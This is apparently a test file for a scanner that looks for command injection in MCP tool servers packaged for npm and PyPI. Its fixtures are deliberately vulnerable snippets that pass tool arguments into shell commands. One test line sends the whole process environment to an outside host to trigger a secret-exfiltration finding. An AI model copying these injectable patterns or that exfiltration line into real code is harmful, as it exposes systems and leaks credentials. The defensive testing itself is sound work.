// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the templates are part of the code that is scanned.
import { describe, expect, test } from 'vitest';
import type { PackageFiles } from '#scanners/package-code/types.ts';
import { codeOf, foundIn, npm, pypi, pythonTool, tool } from './support.ts';

const EXEC = "import { exec } from 'child_process';\n";
const HANDLER = (body: string, args = '{ host }') =>
  tool('ping', '{ host: z.string() }', `async (${args}) => { ${body} }`);

describe('an argument is followed', () => {
  const cases: [how: string, source: PackageFiles, finding: string][] = [
    [
      'through a variable',
      npm(`${EXEC}${HANDLER('const line = `ping ${host}`; exec(line);')}`),
      'code.command-injection index.js:6',
    ],
    [
      'through an object',
      npm(`${EXEC}${HANDLER('const o = { line: "ping " + host }; exec(o.line);')}`),
      'code.command-injection index.js:6',
    ],
    [
      'through a list that is joined',
      npm(`${EXEC}${HANDLER('const words = ["ping", "-c", "1"]; words.push(host); exec(words.join(" "));')}`),
      'code.command-injection index.js:6',
    ],
    [
      'through a function',
      npm(`${EXEC}const run = (h) => exec('ping ' + h);\n${HANDLER('run(host);')}`),
      'code.command-injection index.js:2',
    ],
    [
      'through a function that makes the text',
      npm(`${EXEC}function line(h) { return 'ping ' + h; }\n${HANDLER('exec(line(host));')}`),
      'code.command-injection index.js:7',
    ],
    [
      'through a method',
      npm(
        `${EXEC}class Runner { constructor(log) { this.log = log; }\n async ping(h) { exec('ping ' + h); } }\nconst runner = new Runner(console);\n${HANDLER('await runner.ping(host);')}`,
      ),
      'code.command-injection index.js:3',
    ],
    [
      'into a class that holds the server',
      npm(
        `${EXEC}import { CallToolRequestSchema } from '@modelcontextprotocol/sdk/types.js';\nclass Weather {\n  setup(server) {\n    server.setRequestHandler(CallToolRequestSchema, async (request) => {\n      if (request.params.name === 'ping') return this.ping(request.params.arguments);\n    });\n  }\n  async ping(args) { exec(\`ping \${args.host}\`); }\n}\nnew Weather().setup(server);`,
      ),
      'code.command-injection index.js:9',
    ],
    [
      'through a table of handlers',
      npm(
        `${EXEC}import { CallToolRequestSchema } from '@modelcontextprotocol/sdk/types.js';\nconst handlers = { ping: async (args) => exec('ping ' + args.host) };\nserver.setRequestHandler(CallToolRequestSchema, async ({ params }) => handlers[params.name](params.arguments));`,
      ),
      'code.command-injection index.js:3',
    ],
    [
      'through a schema that checks types',
      npm(
        `${EXEC}import { z } from 'zod';\nimport { CallToolRequestSchema } from '@modelcontextprotocol/sdk/types.js';\nconst Args = z.object({ host: z.string(), count: z.number() });\nserver.setRequestHandler(CallToolRequestSchema, async (request) => { const args = Args.parse(request.params.arguments); exec('ping -c ' + args.count); exec('ping ' + args.host); });`,
      ),
      'code.command-injection index.js:5',
    ],
    [
      'through a wrapper of the handler',
      npm(`${EXEC}${tool('ping', '{ host: z.string() }', 'withLog(async ({ host }) => { exec(`ping ${host}`); })')}`),
      'code.command-injection index.js:6',
    ],
    [
      'into a class that is a tool',
      npm(
        `${EXEC}import { MCPTool } from 'mcp-framework';\nimport { z } from 'zod';\nexport default class Ping extends MCPTool {\n  name = 'ping';\n  schema = { host: { type: z.string() } };\n  async execute(input) { exec('ping ' + input.host); }\n}`,
      ),
      'code.command-injection index.js:7',
    ],
    [
      'over CommonJS',
      npm({
        'index.js':
          "const { run } = require('./run');\nconst { CallToolRequestSchema } = require('x');\nserver.setRequestHandler(CallToolRequestSchema, (r) => run(r.params.arguments.host));",
        'run.js':
          "const cp = require('node:child_process');\nmodule.exports = { run: (h) => cp.execSync('ping ' + h) };",
      }),
      'code.command-injection run.js:2',
    ],
    [
      'over an export of another file’s export',
      npm({
        'index.js': `import { run } from './lib/index.js';\n${HANDLER('run(host);')}`,
        'lib/index.js': "export * from './run.js';",
        'lib/run.js': `${EXEC}export function run(h) { exec('ping ' + h); }`,
      }),
      'code.command-injection lib/run.js:2',
    ],
    [
      'in TypeScript',
      npm({
        'server.ts': `${EXEC}${tool('ping', '{ host: z.string() }', 'async ({ host }: { host: string }): Promise<void> => { exec(`ping ${host as string}` as string); }')}`,
      }),
      'code.command-injection server.ts:6',
    ],
    [
      'over files in Python',
      pypi({
        'weather/server.py':
          'from mcp.server.fastmcp import FastMCP\nfrom .net import ping as do_ping\nmcp = FastMCP("w")\n@mcp.tool()\ndef ping(host: str):\n    return do_ping(host)\n',
        'weather/net.py': 'import subprocess\ndef ping(target):\n    return subprocess.getoutput(f"ping {target}")\n',
        'weather/__init__.py': '',
      }),
      'code.command-injection weather/net.py:3',
    ],
    [
      'through a model in Python',
      pypi(
        'import os\nfrom pydantic import BaseModel\nfrom mcp.server import Server\nserver = Server("w")\nclass Ping(BaseModel):\n    host: str\n@server.call_tool()\nasync def call_tool(name, arguments):\n    match name:\n        case "ping":\n            args = Ping(**arguments)\n            os.system("ping " + args.host)\n',
      ),
      'code.command-injection server.py:12',
    ],
    [
      'through named arguments in Python',
      pypi(
        `import subprocess\ndef run(*, target, count=1):\n    subprocess.run(f"ping -c {count} {target}", shell=True)\n${pythonTool('def ping(host: str):\n    run(target=host, count=2)')}`,
      ),
      'code.command-injection server.py:3',
    ],
    [
      'through a method in Python',
      pypi(
        `import os\nclass Runner:\n    def ping(self, target):\n        os.system("ping " + target)\nrunner = Runner()\n${pythonTool('def ping(host: str):\n    runner.ping(host)')}`,
      ),
      'code.command-injection server.py:4',
    ],
  ];
  test.each(cases)('%s', (_, source, finding) => {
    expect(foundIn(source)).toEqual([finding]);
  });
});

describe('nothing is said', () => {
  const cases: [when: string, source: PackageFiles][] = [
    [
      'where a function cannot be followed',
      npm(`${EXEC}import { build } from 'somewhere';\n${HANDLER('exec(build(host));')}`),
    ],
    [
      'where a value is looked up',
      npm(`${EXEC}const HOSTS = { a: '10.0.0.1' };\n${HANDLER('exec(`ping ${HOSTS[host]}`);')}`),
    ],
    ['where the argument became a number', npm(`${EXEC}${HANDLER('exec(`ping -c ${parseInt(host, 10)}`);')}`)],
    [
      'where a pattern was tested',
      npm(`${EXEC}${HANDLER('if (!/^[a-z]+$/.test(host)) return; exec(`ping ${host}`);')}`),
    ],
    [
      'where a function’s name says that it checks',
      npm(
        `${EXEC}import { assertValidHost } from 'somewhere';\n${HANDLER('assertValidHost(host); exec(`ping ${host}`);')}`,
      ),
    ],
    [
      'where another function has the same name',
      npm(`import { exec } from './queue.js';\n${HANDLER('exec(`ping ${host}`);')}`),
    ],
    [
      'where a local variable has the same name',
      npm(`${HANDLER('const fetch = (x) => x; fetch(`https://${host}/`);')}`),
    ],
    ['where no tool is', npm(`${EXEC}export function ping(host) { exec('ping ' + host); }`)],
    ['where a tool has no arguments', npm(`${EXEC}${tool('now', '{}', "async () => { exec('date'); }")}`)],
    [
      'where a Python choice is fixed',
      pypi(
        `import os\nfrom typing import Literal\n${pythonTool('def ping(host: Literal["a", "b"]):\n    os.system("ping " + host)')}`,
      ),
    ],
    [
      'where Python looks into a list',
      pypi(
        `import os\nALLOWED = ["a"]\n${pythonTool('def ping(host: str):\n    if host not in ALLOWED:\n        raise ValueError()\n    os.system("ping " + host)')}`,
      ),
    ],
  ];
  test.each(cases)('%s', (_, source) => {
    expect(foundIn(source)).toEqual([]);
  });
});

test('tests and examples count only where other files use them', () => {
  const bad = "fetch('https://collect.cdn-stats.net', { method: 'POST', body: JSON.stringify(process.env) });";
  const aside = { 'index.js': 'export default 1;', 'test/helper.js': bad };
  expect(foundIn(npm(aside))).toEqual([]);
  expect(foundIn(npm({ ...aside, 'index.js': "import './test/helper.js';" }))).toEqual([
    'code.secrets-sent-out test/helper.js:1',
  ]);
});

test('sources beside what was compiled from them are not read twice', () => {
  const code = `${EXEC}${HANDLER('exec(`ping ${host}`);')}`;
  expect(foundIn(npm({ 'dist/index.js': code, 'src/index.ts': code }))).toEqual([
    'code.command-injection dist/index.js:6',
  ]);
  expect(foundIn(npm({ 'src/index.ts': code }))).toEqual(['code.command-injection src/index.ts:6']);
});

test('the tool and its argument are named', () => {
  const [sighting] = codeOf(npm(`${EXEC}${HANDLER('exec(`ping ${host}`);')}`)).sightings;
  expect(sighting).toMatchObject({ tool: 'ping', argument: 'host', path: 'index.js', line: 6 });
  expect(sighting?.message).toBe(
    'The argument "host" of the tool ping is put into a command that a shell reads, without a check that could be seen.',
  );
});

test('facts: programs, hosts, variables and mailboxes that the code names', () => {
  const { powers } = codeOf(
    npm(
      "import { spawnSync } from 'child_process';\nspawnSync('/usr/bin/git', ['log']);\nfetch(`https://api.skyline-data.com/${process.env.STATION}`);\nexport const help = 'Write to help@skyline-data.com';",
    ),
  );
  expect(powers.map(({ kind, what }) => `${kind} ${what}`).sort()).toEqual([
    'contacts api.skyline-data.com',
    'names-host api.skyline-data.com',
    'names-mailbox help@skyline-data.com',
    'reads-environment STATION',
    'runs-program git',
  ]);
});
